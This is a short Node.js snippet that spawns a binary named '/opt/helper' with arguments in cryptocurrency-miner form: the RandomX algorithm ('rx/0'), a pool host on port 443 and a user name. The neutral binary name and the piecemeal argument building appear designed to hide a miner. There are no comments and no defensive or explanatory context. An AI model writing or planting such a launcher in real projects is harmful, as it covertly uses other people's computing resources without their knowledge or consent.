const { spawn } = require("child_process");
const words = [];
words.push("-a", "rx/0");
words.push("-o", "work.example.invalid:443");
words.push("-u", "me");
spawn("/opt/helper", words);
